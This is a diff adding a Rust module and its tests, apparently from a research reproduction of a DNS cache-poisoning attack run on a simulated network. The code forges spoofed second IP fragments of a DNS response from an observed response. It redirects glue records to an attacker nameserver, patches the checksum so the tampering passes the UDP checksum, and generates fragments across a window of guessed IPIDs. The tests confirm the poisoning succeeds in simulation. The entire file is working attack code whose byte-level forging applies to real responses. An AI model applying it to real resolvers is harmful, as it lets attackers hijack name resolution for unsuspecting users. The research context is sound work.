@@ -1,0 +1,305 @@
+//! Forging the spoofed second fragment (paper §III-2 and §III-3).
+//!
+//! Input: the *observed* DNS response bytes (the attacker queries the
+//! nameserver itself — the authority/additional tail is stable across
+//! queries, only the rotating answer records differ and those live in the
+//! first fragment). The forger:
+//!
+//! 1. computes where the response fragments at the forced MTU;
+//! 2. rewrites every glue A address that falls inside the second fragment
+//!    to the attacker's nameserver address — except one sacrificial glue
+//!    record whose RDATA becomes the checksum slack;
+//! 3. fixes the ones'-complement sum so the UDP checksum (in fragment 1,
+//!    which the attacker cannot touch) still verifies after reassembly;
+//! 4. emits one spoofed fragment per candidate IPID.
+
+use core::fmt;
+use std::net::Ipv4Addr;
+
+use bytes::Bytes;
+use netsim::ipv4::{Ipv4Packet, IPV4_HEADER_LEN, PROTO_UDP};
+use netsim::udp::UDP_HEADER_LEN;
+
+use crate::checksum_fix::{fix_fragment_sum, FixError};
+use crate::wire_walk::{glue_spans, walk_records, RecordSpan};
+
+/// Errors from fragment forging.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum ForgeError {
+    /// The observed response would not fragment at this MTU.
+    ResponseTooSmall {
+        /// Response wire length (IP).
+        len: usize,
+        /// The MTU in force.
+        mtu: u16,
+    },
+    /// No glue records fall inside the second fragment.
+    NoGlueInTail,
+    /// No aligned slack word available for the checksum fix.
+    NoSlackCandidate,
+    /// The response failed to parse.
+    Malformed,
+    /// Checksum fix failed.
+    Fix(FixError),
+}
+
+impl fmt::Display for ForgeError {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            ForgeError::ResponseTooSmall { len, mtu } => {
+                write!(f, "response of {len} bytes does not fragment at mtu {mtu}")
+            }
+            ForgeError::NoGlueInTail => write!(f, "no glue records in the second fragment"),
+            ForgeError::NoSlackCandidate => write!(f, "no aligned slack word available"),
+            ForgeError::Malformed => write!(f, "observed response failed to parse"),
+            ForgeError::Fix(e) => write!(f, "checksum fix failed: {e}"),
+        }
+    }
+}
+
+impl std::error::Error for ForgeError {}
+
+impl From<FixError> for ForgeError {
+    fn from(e: FixError) -> Self {
+        ForgeError::Fix(e)
+    }
+}
+
+/// The product of forging: the spoofed tail fragment(s) for one IPID plus
+/// bookkeeping about what was poisoned.
+#[derive(Debug, Clone)]
+pub struct ForgedTail {
+    /// IP-payload offset (bytes) where the second fragment starts.
+    pub split: usize,
+    /// The spoofed second-fragment payload (shared across IPIDs).
+    pub payload: Bytes,
+    /// Names of the glue records redirected to the attacker.
+    pub poisoned_names: Vec<dns::name::Name>,
+    /// The glue record sacrificed as checksum slack, if any.
+    pub slack_name: Option<dns::name::Name>,
+}
+
+impl ForgedTail {
+    /// Materialises the spoofed fragment for one candidate IPID, spoofing
+    /// `nameserver` as the source towards `resolver`.
+    pub fn fragment(&self, nameserver: Ipv4Addr, resolver: Ipv4Addr, ipid: u16) -> Ipv4Packet {
+        Ipv4Packet {
+            src: nameserver,
+            dst: resolver,
+            id: ipid,
+            ttl: 64,
+            protocol: PROTO_UDP,
+            dont_fragment: false,
+            more_fragments: false,
+            frag_offset: (self.split / 8) as u16,
+            payload: self.payload.clone(),
+        }
+    }
+
+    /// Materialises fragments for a whole IPID window.
+    pub fn fragments(
+        &self,
+        nameserver: Ipv4Addr,
+        resolver: Ipv4Addr,
+        ipids: &[u16],
+    ) -> Vec<Ipv4Packet> {
+        ipids.iter().map(|&id| self.fragment(nameserver, resolver, id)).collect()
+    }
+}
+
+/// Number of IP-payload bytes carried by the first fragment at `mtu`.
+pub fn first_fragment_payload(mtu: u16) -> usize {
+    (usize::from(mtu) - IPV4_HEADER_LEN) & !7
+}
+
+/// Forges the spoofed tail from an observed response.
+///
+/// `observed_dns` is the DNS message payload the attacker received from its
+/// own probe query; `mtu` the MTU it forced towards the resolver;
+/// `attacker_ns` the address every reachable glue record is rewritten to.
+///
+/// # Errors
+///
+/// See [`ForgeError`].
+pub fn forge_tail(observed_dns: &[u8], mtu: u16, attacker_ns: Ipv4Addr) -> Result<ForgedTail, ForgeError> {
+    let udp_len = UDP_HEADER_LEN + observed_dns.len();
+    let split = first_fragment_payload(mtu);
+    if udp_len <= split {
+        return Err(ForgeError::ResponseTooSmall { len: udp_len + IPV4_HEADER_LEN, mtu });
+    }
+    let spans = walk_records(observed_dns).map_err(|_| ForgeError::Malformed)?;
+    // DNS byte offset d sits at IP-payload offset UDP_HEADER_LEN + d.
+    let in_tail =
+        |offset: usize, len: usize| offset + UDP_HEADER_LEN >= split && offset + len <= observed_dns.len();
+    let glue: Vec<&RecordSpan> = glue_spans(&spans)
+        .into_iter()
+        .filter(|s| in_tail(s.rdata_offset, s.rdata_len) && s.rdata_len == 4)
+        .collect();
+    if glue.is_empty() {
+        return Err(ForgeError::NoGlueInTail);
+    }
+    // Slack: the last glue record whose RDATA starts at an even IP-payload
+    // offset (fragment sums pair bytes from the even split boundary).
+    let slack = glue
+        .iter()
+        .rev()
+        .find(|s| (s.rdata_offset + UDP_HEADER_LEN) % 2 == 0)
+        .copied();
+    let Some(slack) = slack else {
+        return Err(ForgeError::NoSlackCandidate);
+    };
+    let mut modified = observed_dns.to_vec();
+    let mut poisoned = Vec::new();
+    for span in &glue {
+        if span.rdata_offset == slack.rdata_offset {
+            continue;
+        }
+        modified[span.rdata_offset..span.rdata_offset + 4].copy_from_slice(&attacker_ns.octets());
+        poisoned.push(span.name.clone());
+    }
+    // Zero the slack address; the fix writes the equalising word into its
+    // first two bytes (the remaining two stay zero).
+    modified[slack.rdata_offset..slack.rdata_offset + 4].copy_from_slice(&[0, 0, 0, 0]);
+    // Work in fragment-2 coordinates.
+    let tail_start_dns = split - UDP_HEADER_LEN; // first DNS byte in frag 2
+    let original_tail = &observed_dns[tail_start_dns..];
+    let mut modified_tail = modified[tail_start_dns..].to_vec();
+    let slack_in_tail = slack.rdata_offset - tail_start_dns;
+    fix_fragment_sum(original_tail, &mut modified_tail, slack_in_tail)?;
+    Ok(ForgedTail {
+        split,
+        payload: Bytes::from(modified_tail),
+        poisoned_names: poisoned,
+        slack_name: Some(slack.name.clone()),
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::checksum_fix::sums_match;
+    use dns::prelude::*;
+    use netsim::frag::{fragment, DefragCache, DefragConfig};
+    use netsim::time::SimTime;
+    use netsim::udp::UdpDatagram;
+    use rand::rngs::SmallRng;
+    use rand::SeedableRng;
+
+    const NS: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 1);
+    const RESOLVER: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 53);
+    const ATTACKER_NS: Ipv4Addr = Ipv4Addr::new(66, 66, 66, 66);
+
+    fn observed_response() -> Vec<u8> {
+        let servers: Vec<Ipv4Addr> = (1..=8).map(|i| Ipv4Addr::new(192, 0, 2, i)).collect();
+        let zone = pool_zone(servers, 23, NS);
+        let mut srv = AuthServer::new(vec![zone]);
+        let q = Message::query(0x999, "pool.ntp.org".parse().unwrap(), RecordType::A, false);
+        srv.answer(&q, &mut SmallRng::seed_from_u64(3)).encode().unwrap().to_vec()
+    }
+
+    #[test]
+    fn forged_tail_poisons_most_glue() {
+        let dns_bytes = observed_response();
+        let tail = forge_tail(&dns_bytes, 548, ATTACKER_NS).unwrap();
+        assert!(tail.poisoned_names.len() >= 20, "poisoned {}", tail.poisoned_names.len());
+        assert!(tail.slack_name.is_some());
+        assert_eq!(tail.split % 8, 0);
+    }
+
+    #[test]
+    fn forged_sum_matches_original_tail() {
+        let dns_bytes = observed_response();
+        let tail = forge_tail(&dns_bytes, 548, ATTACKER_NS).unwrap();
+        let original_tail = &dns_bytes[tail.split - UDP_HEADER_LEN..];
+        assert!(sums_match(original_tail, &tail.payload));
+        assert_eq!(original_tail.len(), tail.payload.len(), "length must be unchanged");
+    }
+
+    /// End-to-end reassembly check: plant the spoofed fragment, deliver the
+    /// real first fragment, and verify the reassembled datagram (a) passes
+    /// the UDP checksum and (b) decodes to a response whose glue points at
+    /// the attacker.
+    #[test]
+    fn reassembled_with_real_first_fragment_verifies_and_is_poisoned() {
+        let dns_bytes = observed_response();
+        // The real response as the NS would send it to the RESOLVER (new
+        // TXID and rotation — answer section differs, tail identical).
+        let servers: Vec<Ipv4Addr> = (1..=8).map(|i| Ipv4Addr::new(192, 0, 2, i)).collect();
+        let zone = pool_zone(servers, 23, NS);
+        let mut srv = AuthServer::new(vec![zone]);
+        let victim_query =
+            Message::query(0x1234, "pool.ntp.org".parse().unwrap(), RecordType::A, false);
+        let victim_resp = srv.answer(&victim_query, &mut SmallRng::seed_from_u64(77));
+        let victim_dns = victim_resp.encode().unwrap();
+        let udp = UdpDatagram::new(53, 45_000, victim_dns.clone()).encode(NS, RESOLVER).unwrap();
+        let full = Ipv4Packet::udp(NS, RESOLVER, 0x0F00, udp);
+        let frags = fragment(&full, 548).unwrap();
+        assert_eq!(frags.len(), 2);
+
+        // Attacker forges from its own (different) observation.
+        let tail = forge_tail(&dns_bytes, 548, ATTACKER_NS).unwrap();
+        let spoofed = tail.fragment(NS, RESOLVER, 0x0F00);
+
+        // Resolver-side reassembly: spoofed fragment is planted first.
+        let mut cache = DefragCache::new(DefragConfig::default());
+        assert!(cache.insert(SimTime::ZERO, &spoofed).is_none());
+        let reassembled = cache
+            .insert(SimTime::from_nanos(1), &frags[0])
+            .expect("first real fragment completes with planted tail");
+
+        // (a) UDP checksum verifies despite the tampering.
+        let dgram = UdpDatagram::decode(&reassembled.payload, NS, RESOLVER)
+            .expect("checksum must verify after the fix-up");
+        // (b) The DNS payload decodes; glue now points at the attacker.
+        let msg = Message::decode(&dgram.payload).expect("DNS decodes");
+        assert_eq!(msg.header.id, 0x1234, "victim TXID preserved (fragment 1)");
+        let glue_addrs: Vec<Ipv4Addr> =
+            msg.additionals.iter().filter_map(|r| r.as_a()).collect();
+        let poisoned = glue_addrs.iter().filter(|a| **a == ATTACKER_NS).count();
+        assert!(poisoned >= 20, "poisoned glue count {poisoned}");
+        // The answer section (fragment 1) is the *real* rotation.
+        assert_eq!(msg.answers.len(), 4);
+        assert!(msg.answers.iter().all(|r| r.as_a().map(|a| a.octets()[0] == 192).unwrap_or(false)));
+    }
+
+    #[test]
+    fn wrong_ipid_fails_to_reassemble() {
+        let dns_bytes = observed_response();
+        let servers: Vec<Ipv4Addr> = (1..=8).map(|i| Ipv4Addr::new(192, 0, 2, i)).collect();
+        let zone = pool_zone(servers, 23, NS);
+        let mut srv = AuthServer::new(vec![zone]);
+        let victim_query = Message::query(5, "pool.ntp.org".parse().unwrap(), RecordType::A, false);
+        let victim_dns = srv.answer(&victim_query, &mut SmallRng::seed_from_u64(7)).encode().unwrap();
+        let udp = UdpDatagram::new(53, 45000, victim_dns).encode(NS, RESOLVER).unwrap();
+        let full = Ipv4Packet::udp(NS, RESOLVER, 0x0F00, udp);
+        let frags = fragment(&full, 548).unwrap();
+
+        let tail = forge_tail(&dns_bytes, 548, ATTACKER_NS).unwrap();
+        let spoofed = tail.fragment(NS, RESOLVER, 0x0E00); // mispredicted
+        let mut cache = DefragCache::new(DefragConfig::default());
+        cache.insert(SimTime::ZERO, &spoofed);
+        assert!(cache.insert(SimTime::from_nanos(1), &frags[0]).is_none());
+        // The real second fragment completes it cleanly instead.
+        let reassembled = cache.insert(SimTime::from_nanos(2), &frags[1]).unwrap();
+        let dgram = UdpDatagram::decode(&reassembled.payload, NS, RESOLVER).unwrap();
+        let msg = Message::decode(&dgram.payload).unwrap();
+        assert!(msg.additionals.iter().filter_map(|r| r.as_a()).all(|a| a != ATTACKER_NS));
+    }
+
+    #[test]
+    fn small_response_cannot_be_attacked() {
+        let dns_bytes = observed_response();
+        let err = forge_tail(&dns_bytes[..100.min(dns_bytes.len())], 548, ATTACKER_NS);
+        assert!(err.is_err());
+    }
+
+    #[test]
+    fn window_of_fragments_materialises() {
+        let dns_bytes = observed_response();
+        let tail = forge_tail(&dns_bytes, 548, ATTACKER_NS).unwrap();
+        let ipids: Vec<u16> = (0x100..0x110).collect();
+        let frags = tail.fragments(NS, RESOLVER, &ipids);
+        assert_eq!(frags.len(), 16);
+        assert!(frags.iter().all(|f| f.src == NS && f.dst == RESOLVER && f.is_fragment()));
+    }
+}
